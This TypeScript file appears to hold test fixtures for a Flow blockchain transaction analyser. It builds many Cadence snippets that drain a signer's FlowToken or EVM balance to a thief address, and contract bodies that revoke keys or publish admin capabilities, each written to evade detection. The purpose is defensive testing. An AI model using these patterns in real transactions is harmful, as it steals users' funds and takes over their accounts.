import type { FlowAddress } from '@toolkit/core/account/address'

// Attacks that evade an analysis of the usual ones. They weren't executed: each must be a danger by its code, whether
// or not today's chain would run it.

export const VAULT =
  'signer.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!'
export const RECEIVER = 'capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!'
const send = (to: string, amount = '10.0') =>
  `getAccount(${to}).${RECEIVER}.deposit(from: <-${VAULT}.withdraw(amount: ${amount}))`
const KEY =
  'publicKey: PublicKey(publicKey: s.decodeHex(), signatureAlgorithm: SignatureAlgorithm.ECDSA_P256), hashAlgorithm: HashAlgorithm.SHA3_256, weight: 1000.0'
const FUND = `made.${RECEIVER}.deposit(from: <-${VAULT}.withdraw(amount: amount))`
/** Funds a created account. */
const created = (code: string, fund = FUND) =>
  `let made = Account(payer: signer)\n made.keys.add(${KEY})\n ${code}\n ${fund}`
const keyed = (key: string, weight = '1000.0') =>
  created('').replace('s.decodeHex()', key).replace('1000.0', weight)
/** Publishes a stored item at a receiver's path. */
const republished = (type: string, at = '/public/flowTokenReceiver') =>
  `signer.capabilities.unpublish(${at})\n signer.capabilities.publish(signer.capabilities.storage.issue<${type}>(/storage/f), at: ${at})`
const counted = (code: string, start = 'var i = 0') =>
  `${start}\n while i < list.length { ${send('to', 'amount')}\n ${code} }`
const COA =
  'let coa = signer.storage.borrow<auth(EVM.Withdraw) &EVM.CadenceOwnedAccount>(from: /storage/evm)!'
const sendCoa = (balance: string, to = 'to') =>
  `${COA}\n getAccount(${to}).${RECEIVER}.deposit(from: <-coa.withdraw(balance: ${balance}))`
/** Sets a balance to `amount`, which the code then changes. */
const setBalance = (code: string, between = '') =>
  `var b = EVM.Balance(attoflow: 0)\n b.setFLOW(flow: amount)${between}\n ${code}\n ${sendCoa('b')}`
const sendEvm = (to: string) =>
  `${to}.deposit(from: <-(${VAULT}.withdraw(amount: 10.0) as! @FlowToken.Vault))`

/** Code of `prepare` by description, for a transaction with the parameters `PARAMETERS`. */
export const variants = (thief: FlowAddress): Readonly<Record<string, string>> => ({
  'an optional’s map': `signer.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault).map(Helper.mapper)`,
  'an attachment’s loop': `${VAULT}.forEachAttachment(Helper.f)`,
  'a claimed capability of a stranger': `signer.inbox.claim<&Helper.Taker>("x", provider: 0x${thief})!.borrow()!.run(${VAULT})`,
  'a claimed receiver of a stranger': `signer.inbox.claim<&{FungibleToken.Receiver}>("x", provider: 0x${thief})!.borrow()!.deposit(from: <-${VAULT}.withdraw(amount: 1.0))`,
  'a contract of one’s own account by an interface': `signer.contracts.borrow<&{Helper.I}>(name: "A")!.run(${VAULT})`,
  'through an empty vault': `let mine <- FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())\n mine.deposit(from: <-${VAULT}.withdraw(amount: 1.0))\n Helper.take(<-mine)`,
  'through an empty vault, destroyed': `let mine <- FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())\n mine.deposit(from: <-${VAULT}.withdraw(amount: 1.0))\n destroy mine`,
  'into a stranger’s forwarder in one’s own storage': `signer.storage.save(<-Helper.forwarder(), to: /storage/f)\n signer.storage.borrow<&{FungibleToken.Receiver}>(from: /storage/f)!.deposit(from: <-${VAULT}.withdraw(amount: 1.0))`,
  'a stranger’s forwarder published as the receiver': `signer.storage.save(<-Helper.forwarder(), to: /storage/f)\n signer.capabilities.unpublish(/public/flowTokenReceiver)\n signer.capabilities.publish(signer.capabilities.storage.issue<&{FungibleToken.Receiver}>(/storage/f), at: /public/flowTokenReceiver)`,
  'to a known contract’s account': send('0x0ae53cb6e3f42a79', `${VAULT}.balance`),
  'to a field of a stranger’s contract': send('to == 0x1 ? to : Helper.target'),
  'to a field of a stranger’s contract, after ??': send('m["a"] ?? Helper.target'),
  'to another account’s address': `let t = getAccount(0x${thief})\n ${send('to == signer.address ? to : t.address')}`,
  'to a number in the code': send('Address(n > 0 ? 123456789012345 : n)'),
  'to a number by bits': send('Address((n & 0) | 123456789012345)'),
  'to a number by saturating arithmetic': send(
    'Address(n.saturatingMultiply(0).saturatingAdd(123456789012345))',
  ),
  'to replaced text': send('Address.fromString(s.replaceAll(of: s, with: Helper.s))!'),
  'a stranger’s field as the amount': send('to', 'Helper.amount'),
  'more than an argument': send('to', 'amount.saturatingAdd(1000.0)'),
  'all, by the public balance': send('to', 'getAccount(signer.address).availableBalance'),
  'many times an argument': `for i in [n, 1, 2, 3] { ${send('to', 'amount')} }`,
  'argument by argument by argument': `for i in list { for j in list { ${send('to', 'amount')} } }`,
  'to an EVM address in pieces': sendEvm('EVM.addressFromString("\\(a)\\(b)\\(a)\\(b)")'),
  'to an EVM address of cast bytes': sendEvm(
    `EVM.EVMAddress(bytes: [${Array.from({ length: 20 }, () => '7 as UInt8').join(', ')}])`,
  ),
  'to a stranger’s EVM address': sendEvm('EVM.addressFromString(Helper.evm)'),
  'with an EVM contract': `signer.storage.borrow<auth(EVM.Deploy) &EVM.CadenceOwnedAccount>(from: /storage/evm)!.deploy(code: "60".decodeHex(), gasLimit: 1000000, value: EVM.Balance(attoflow: 1000000000000000000))`,
  'EVM.run as a value': `let run = EVM.run\n run(tx: [], coinbase: EVM.addressFromString(s))`,
  'a stranger’s receiver in a switchboard': `let board <- FungibleTokenSwitchboard.createSwitchboard()\n board.addNewVault(capability: Helper.cap())\n signer.storage.save(<-board, to: /storage/board)`,
  'everything into fees': `FlowFees.deposit(from: <-${VAULT}.withdraw(amount: ${VAULT}.balance))`,
  'a minter': `Helper.take(<-signer.storage.borrow<&FlowToken.Administrator>(from: /storage/admin)!.createNewMinter(allowedAmount: 1000000.0))`,
  'an account created with a key in the code': `let made = Account(payer: signer)\n made.keys.add(${KEY.replace('s.decodeHex', `"${'ab'.repeat(64)}".decodeHex`)})\n ${FUND}`,
  'an account created with a stranger’s key beside': created(
    `made.keys.add(${KEY.replace('s.decodeHex()', 'Helper.key()')})`,
  ),
  'an account created with one’s own bytes as the key': created(
    `made.keys.add(${KEY.replace('s.decodeHex()', 's.concat(Helper.s).decodeHex()')})`,
  ),
  'an account created and handed on': created('Helper.run(made)'),
  'an account created and handed on in a list': created('Helper.all([made])'),
  'an account created and handed on by another name': created('let b = made\n Helper.run(b)'),
  'an account created whose keys are handed on': created('Helper.run(made.keys)'),
  'an account created that others may take over': created(
    'made.inbox.publish(made.capabilities.account.issue<auth(Keys) &Account>(), name: "a", recipient: to)',
  ),
  'an account created that lends what it gets': created(
    'Helper.run(made.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!)',
  ),
  'an account created with a contract': created('made.contracts.add(name: "A", code: s.utf8)'),
  'an account created with a stranger’s forwarder': created(
    'made.storage.save(<-Helper.forwarder(), to: /storage/f)',
    `made.storage.borrow<&{FungibleToken.Receiver}>(from: /storage/f)!.deposit(from: <-${VAULT}.withdraw(amount: amount))`,
  ),
  'an account created for nobody': `let made = Account(payer: signer)\n ${FUND}`,
  'one account created for another': created(
    `let made = Account(payer: signer)\n made.keys.add(${KEY.replace('s.decodeHex()', 'Helper.key()')})`,
  ),
  'a count that is set back': counted('i = i + 1\n if i == 5 { i = 0 }'),
  'a count that is set back by a function': `fun back() { i = 0 }\n ${counted('i = i + 1\n back()')}`,
  'a count that doesn’t count': counted('i = i + 0'),
  'a count that another name has too': counted('ii = ii + 1', 'var i = 0\n var ii = 0'),
  'a count in a branch': counted('if n > 5 { i = i + 1 }'),
  'a count that is passed over': counted('if n > 5 { continue }\n i = i + 1'),
  'a count that is exchanged': counted('i = i + 1\n j <-> i', 'var j = 0\n var i = 0'),
  'a count to a list that grows': counted('i = i + 1\n list.append(1)'),
  'a list made longer': `var l = list\n l.append(1)\n for i in l { ${send('to', 'amount')} }`,
  'a receiver put among the arguments': `m["a"] = 0x${thief}\n ${send('m["a"]!')}`,
  'a receiver put among the arguments by a function': `m.insert(key: "a", 0x${thief})\n ${send('m["a"]!')}`,
  'a receiver put among the arguments by a reference': `let r = &m as auth(Mutate) &{String: Address}\n r.insert(key: "a", 0x${thief})\n ${send('m["a"]!')}`,
  'all of an EVM account': sendCoa('coa.balance()'),
  'so much of an EVM account as a stranger says': `let b = EVM.Balance(attoflow: 0)\n b.setFLOW(flow: Helper.amount)\n ${sendCoa('b')}`,
  'so much of an EVM account as another has': sendCoa('EVM.addressFromString(s).balance()'),
  'of an EVM account to an address in the code': sendCoa('EVM.Balance(attoflow: 1)', `0x${thief}`),
  'of an EVM account to a stranger’s contract': `${COA}\n Helper.take(<-coa.withdraw(balance: EVM.Balance(attoflow: 1)))`,
  'to one’s own receiver, which leads elsewhere': `signer.capabilities.unpublish(/public/flowTokenReceiver)\n signer.capabilities.publish(Helper.cap(), at: /public/flowTokenReceiver)\n signer.${RECEIVER}.deposit(from: <-${VAULT}.withdraw(amount: amount))`,
  'a capability by a cast': `Helper.run(signer.capabilities.storage.getControllers(forPath: /storage/flowTokenVault)[0].capability as! Capability<&FlowToken.Vault>)`,
  'code put among the arguments': `m2["A"] = Helper.s\n for name in m2.keys { signer.contracts.add(name: name, code: m2[name]!.utf8) }`,
  'code put among a list’s items': `let all = codes\n all.append(Helper.s)\n for code in all { signer.contracts.add(name: "A", code: code.utf8) }`,
  ...freshVariants(thief),
  'a balance that is set in parentheses': setBalance('(b).setFLOW(flow: 100000.0)', ';'),
  'a balance that is set after a blank': setBalance('b .setFLOW(flow: 100000.0)'),
  'a balance that is set by a reference': setBalance(
    'let c = &b as &EVM.Balance\n c.setFLOW(flow: 100000.0)',
  ),
  'a balance that is another one then': setBalance(
    'b = EVM.Balance(attoflow: 5000000000000000000000)',
  ),
  'a balance that is exchanged': setBalance(
    'var c = EVM.Balance(attoflow: 5000000000000000000000)\n b <-> c',
  ),
  'a balance whose field is set': setBalance('b.attoflow = 5000000000000000000000'),
  'a balance that is computed': sendCoa('EVM.Balance(attoflow: UInt(n) * 1000)'),
  'an amount that changes with the balance': `var one = 1.0\n if ${VAULT}.balance > 100000.0 { one = 100000.0 }\n ${send('to', 'one')}`,
  'an amount of a table in the code': `let table = [1.0, 50000.0]\n ${send('to', 'table[n]')}`,
  'an amount that is a path’s length': send('to', 'UFix64(/public/abc.toString().length)'),
  'an amount of a field that is set twice': `self.one = amount\n self.one = 50000.0\n ${send('to', 'self.one')}`,
  'so much of what was taken': `let v <- ${VAULT}.withdraw(amount: Helper.amount)\n getAccount(to).${RECEIVER}.deposit(from: <-v.withdraw(amount: 1.0))\n signer.storage.save(<-v, to: /storage/v)`,
  'bridged tokens whose amount is in the code': `${COA.replace('Withdraw', 'Bridge')}\n getAccount(to).${RECEIVER}.deposit(from: <-coa.withdrawTokens(type: Type<@FlowToken.Vault>(), amount: 1000000, feeProvider: ${VAULT}))`,
  'a loop to a bound of the code or an argument': counted(
    'i = i + 1',
    'let bound = n > 0 ? Int.fromString("999")! : list.length\n var i = 0',
  ).replace('list.length {', 'bound {'),
  'a loop over a list of the code or an argument': `let each = n > 0 ? [true, true, true] : flags\n for one in each { ${send('to', 'amount')} }`,
  'a loop to the largest number': counted(
    'i = i + 1',
    'let three = n64 >= 0 ? Int64.max : n64\n var i: Int64 = 0',
  ).replace('list.length', 'three'),
  'a count that begins again': counted('i = i + 1', 'var i: Word8 = 0').replace('list.length', 'w'),
  'a count by more than one': counted('i = i + 128'),
  'a loop that ends nowhere, within the account': `while true { signer.storage.borrow<&FlowToken.Vault>(from: /storage/v)!.deposit(from: <-${VAULT}.withdraw(amount: 1.0)) }`,
  'a stranger’s vault published as the receiver': `signer.storage.save(<-Helper.make(), to: /storage/f)\n ${republished('&Helper.Vault')}`,
  'a stranger’s vault published': `signer.capabilities.publish(signer.capabilities.storage.issue<&Helper.Vault>(/storage/f), at: /public/x)`,
  'what was stored before, published as the receiver': republished('&{FungibleToken.Receiver}'),
  'what was stored before, published at a name': `let at = /public/flowTokenReceiver\n ${republished('&{FungibleToken.Receiver}', 'at')}`,
  'what was stored before, published at a path in pieces': `let at = PublicPath(identifier: "flowToken".concat("Receiver"))!\n ${republished('&{FungibleToken.Receiver}', 'at')}`,
  'what was stored before, published as another token’s receiver': republished(
    '&{FungibleToken.Receiver}',
    '/public/usdcReceiver',
  ),
  'an entitled capability published by a harmless type': `let cap: Capability = signer.capabilities.storage.issue<auth(FungibleToken.Withdraw) &FlowToken.Vault>(/storage/flowTokenVault)\n signer.capabilities.publish(cap as! Capability<&FlowToken.Vault>, at: /public/x)`,
  'all to one’s own path, where others may stand': `getAccount(signer.address).capabilities.borrow<&{FungibleToken.Receiver}>(/public/x)!.deposit(from: <-${VAULT}.withdraw(amount: amount))`,
  'an account created with a key in the code, or an argument': keyed(
    `n >= 0 ? [${Array.from({ length: 64 }, () => 'UInt8(/public/a.toString().length)').join(', ')}] : s.decodeHex()`,
  ),
  'an account created with a stranger’s name for a key': keyed(
    'Type<Helper.S>().contractName?.decodeHex() ?? s.decodeHex()',
  ),
  'an account created with a key by another name': `let key = n >= 0 ? Type<Helper.S>().identifier.utf8 : s.decodeHex()\n ${keyed('key')}`,
  'an account created with a key out of a list': keyed(
    '[Type<Helper.S>().identifier.utf8, s.decodeHex()][0]',
  ),
  'an account created with a key of no weight': keyed('s.decodeHex()', '0.0'),
  'an account created with a key of a weight that the code computes': keyed(
    's.decodeHex()',
    'n > 0 ? 0.0 : 1000.0',
  ),
  'an account created whose key is added in a case': `let made = Account(payer: signer)\n if n == 7 { made.keys.add(${KEY}) }\n ${FUND}`,
  'an account created for nobody, beside one with a key': `${created('let other = Account(payer: signer)', FUND.replace('made', 'other'))}`,
  'an account created, or another': created(
    '',
    send('n >= 0 ? Type<Helper.S>().address! : made.address', 'amount'),
  ),
  'an account created, or an argument’s': created('', send('n >= 0 ? to : made.address', 'amount')),
  'a stored capability by a harmless type': `Helper.run(signer.storage.copy<Capability<&FlowToken.Vault>>(from: /storage/provider)!)`,
})

export const PARAMETERS =
  '(amount: UFix64, to: Address, n: UInt64, s: String, m: {String: Address}, list: [Int], m2: {String: String}, codes: [String], flags: [Bool], n64: Int64, w: Word8)'

/** Empty vault, by a name and by a reference to it. */
const FRESH =
  'let mine <- FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())\n let r = &mine as &FlowToken.Vault'
const OWNERS = `let v = ${VAULT}`
const ALL = 'deposit(from: <-v.withdraw(amount: v.balance))'

/** Resources that the code creates, fills under another name and gives away. */
function freshVariants(thief: FlowAddress): Readonly<Record<string, string>> {
  const give = (to: string, what: string) =>
    `getAccount(${to}).${RECEIVER}.deposit(from: <-${what})`
  const stolen = give(`0x${thief}`, 'mine')
  const byReference = (code: string) => `${OWNERS}\n ${FRESH}\n ${code}\n ${stolen}`
  const inDictionary = (code: string, start = '') =>
    `${OWNERS}\n let d: @{String: FlowToken.Vault} <- {${start}}\n ${code}\n ${give(`0x${thief}`, 'd.remove(key: s)!')}\n destroy d`
  const item = 's: <-FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())'
  const madeBy = (base: string, put = ALL) =>
    `${OWNERS}\n let mine <- ${base}!.createEmptyVault()\n mine.${put}\n ${stolen}`
  const merged = (code: string, start = '0.0') =>
    `${OWNERS}\n let x <- v.withdraw(amount: ${start})\n ${code}\n ${give('to', 'x')}`
  const mergedCoa = (code: string) =>
    `${COA}\n let x <- coa.withdraw(balance: EVM.Balance(attoflow: 0))\n ${code}\n ${give('to', 'x')}`
  const put = 'deposit(from: <-v.withdraw(amount: amount))'
  return {
    'a vault filled by a reference': byReference(`r.${ALL}`),
    'a vault filled by a reference, and moved on': `${byReference(`r.${ALL}\n let b <- mine`).replace('<-mine)', '<-b)')}`,
    'a vault filled by a reference to a stranger’s contract': `${OWNERS}\n ${FRESH}\n r.${ALL}\n Helper.take(<-mine)`,
    'a vault filled by a reference and destroyed': `${OWNERS}\n ${FRESH}\n r.${ALL}\n destroy mine`,
    'a vault filled by another name of a reference': byReference(
      `let q = r as &{FungibleToken.Receiver}\n q.${put}`,
    ),
    'a vault filled by a reference in a list': byReference(`let all = [r]\n all[0].${put}`),
    'a vault filled by a reference in a loop': byReference(`for one in [r] { one.${put} }`),
    'a vault filled by a reference that is exchanged': byReference(
      `var x <- FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())\n var a = r\n var b = &x as &FlowToken.Vault\n a <-> b\n b.${put}\n v.deposit(from: <-x)`,
    ),
    'a vault in a dictionary': inDictionary(`d[s]!.${put}`, item),
    'a vault in a dictionary by a reference': inDictionary(
      `let r = (&d[s] as &FlowToken.Vault?)!\n r.${put}`,
      item,
    ),
    'a vault in a dictionary by a reference to that': inDictionary(
      `let r = &d as &{String: FlowToken.Vault}\n r[s]!.${put}`,
      item,
    ),
    'a vault put into a dictionary later': inDictionary(
      `d[s] <-! FlowToken.createEmptyVault(vaultType: Type<@FlowToken.Vault>())\n if let r = &d[s] as &FlowToken.Vault? { r.${put} }`,
    ),
    'an EVM account filled by a reference': `${OWNERS}\n let mine <- EVM.createCadenceOwnedAccount()\n let r = &mine as &EVM.CadenceOwnedAccount\n r.deposit(from: <-(v.withdraw(amount: v.balance) as! @FlowToken.Vault))\n Helper.take(<-mine)`,
    'a vault that one’s own public vault makes': madeBy(
      'signer.capabilities.borrow<&FlowToken.Vault>(/public/flowTokenReceiver)',
    ),
    'a vault that one’s own capability makes': madeBy(
      'signer.capabilities.get<&FlowToken.Vault>(/public/flowTokenReceiver).borrow()',
    ),
    'a vault that one’s own address makes': madeBy(
      'getAccount(signer.address).capabilities.borrow<&FlowToken.Vault>(/public/flowTokenReceiver)',
    ),
    'a vault that a receiver’s makes': madeBy(
      'getAccount(to).capabilities.borrow<&FlowToken.Vault>(/public/flowTokenReceiver)',
      put,
    ),
    'a vault that a receiver’s makes behind an interface': madeBy(
      'getAccount(to).capabilities.borrow<&{FungibleToken.Vault}>(/public/flowTokenReceiver)',
      put,
    ),
    'all, put into nothing': merged(`x.${ALL}`),
    'all, put into nothing by a reference': merged(
      `let r = &x as &{FungibleToken.Vault}\n r.${ALL}`,
    ),
    'all, put into nothing in two steps': merged(
      `let y <- v.withdraw(amount: 0.0)\n y.${ALL}\n x.deposit(from: <-y)`,
    ),
    'all, put into an argument’s worth bit by bit': merged(
      'while v.balance > 1.0 { x.deposit(from: <-v.withdraw(amount: 1.0)) }',
      'amount',
    ),
    'all but an argument, put into nothing': merged(
      'x.deposit(from: <-v.withdraw(amount: v.balance - amount))',
    ),
    'all of an EVM account, put into nothing': mergedCoa(
      'x.deposit(from: <-coa.withdraw(balance: coa.balance()))',
    ),
    'all of an EVM account, put into nothing bit by bit': mergedCoa(
      'while coa.balance().inAttoFLOW() > 1 { x.deposit(from: <-coa.withdraw(balance: EVM.Balance(attoflow: 1))) }',
    ),
    'to an EVM address in the code by a name': `let evm = EVM.addressFromString("0x${'ab'.repeat(20)}")\n ${sendEvm('evm')}`,
    'to an EVM address by a name that stands for one’s own vault too': `if amount > 1.0 { let evm <- ${VAULT}.withdraw(amount: amount)\n ${VAULT}.deposit(from: <-evm) }\n let evm = EVM.addressFromString("0x${'ab'.repeat(20)}")\n ${sendEvm('evm')}`,
  }
}

/** Resources that are filled under another name as arguments say, or stay with the account. */
export const FRESH_AS_STATED: Readonly<Record<string, string>> = {
  'a vault filled by a reference and sent to an argument': `${OWNERS}\n ${FRESH}\n r.deposit(from: <-v.withdraw(amount: amount))\n getAccount(to).${RECEIVER}.deposit(from: <-mine)`,
  'all put into a vault and back': `${OWNERS}\n ${FRESH}\n r.${ALL}\n v.deposit(from: <-mine)`,
  'a new EVM account that is filled and stored': `${OWNERS}\n let coa <- EVM.createCadenceOwnedAccount()\n let r = &coa as &EVM.CadenceOwnedAccount\n r.deposit(from: <-(v.withdraw(amount: amount) as! @FlowToken.Vault))\n signer.storage.save(<-coa, to: /storage/evm)`,
  'what is only shown or asked for': `log(signer)\n log(signer.keys)\n log(${VAULT})\n log(signer.inbox.getType())\n assert(${VAULT.slice(0, -1)} != nil)`,
  'an EVM address of an argument by a name': `let evm = EVM.addressFromString(s)\n evm.deposit(from: <-(${VAULT}.withdraw(amount: amount) as! @FlowToken.Vault))`,
}

/** Contracts that use their account under another name. */
export const CONTRACT_VARIANTS: readonly string[] = [
  'init() { (self).account.keys.revoke(keyIndex: 0) }',
  'init() { (self as Nice).account.keys.revoke(keyIndex: 0) }',
  'init() { let me = self\n me.account.keys.revoke(keyIndex: 0) }',
  'init() { let me = &self as &Nice\n Helper.run(me.account) }',
  'access(self) fun f(_ c: &Nice) { Helper.run(c.account) }\n init() { self.f(&self as &Nice) }',
  'access(all) fun me(): &Nice { return &self as &Nice }\n init() { self.me().account.keys.revoke(keyIndex: 0) }',
  'access(all) struct S { init() { Helper.run((Nice).account) } }\n init() {}',
  'init() { Helper.run(self.account.storage.copy<Capability>(from: /storage/provider)!) }',
  'init() { self.account.capabilities.unpublish(/public/flowTokenReceiver) }',
  'init() { self.account.toString() }',
  'access(all) struct H { access(all) let capabilities: &Nice\n init(_ c: &Nice) { self.capabilities = c } }\n init() { let h = H(&self as &Nice)\n h.capabilities.account.keys.revoke(keyIndex: 0) }',
  'access(all) struct H { access(all) let capabilities: &Nice\n init(_ c: &Nice) { self.capabilities = c }\n access(all) fun go() { self.capabilities.account.keys.revoke(keyIndex: 0) } }\n init() {}',
  'access(all) resource F {}\n init() { let at = /public/flowTokenReceiver\n self.account.capabilities.publish(self.account.capabilities.storage.issue<&F>(/storage/f), at: at) }',
  'init() { self.account.capabilities.unpublish(PublicPath(identifier: "flowToken".concat("Receiver"))!) }',
  'init() { self.account.capabilities.unpublish(PublicPath(identifier: "flowTokenReceiver")!) }',
  'access(all) let at: PublicPath\n init() { self.at = Helper.path\n self.account.capabilities.unpublish(self.at) }',
  'access(all) fun f(_ at: PublicPath) { self.account.capabilities.unpublish(at) }\n init() {}',
  'init() { self.account.capabilities.publish(self.account.capabilities.storage.issue<&TopShot.Admin>(/storage/TopShotAdmin), at: /public/steal) }',
  'init() { self.account.storage.save(<-Helper.forwarder(), to: /storage/flowTokenVault) }',
  'init() { self.account.contracts.borrow<&{Helper.I}>(name: "Other")!.go() }',
]
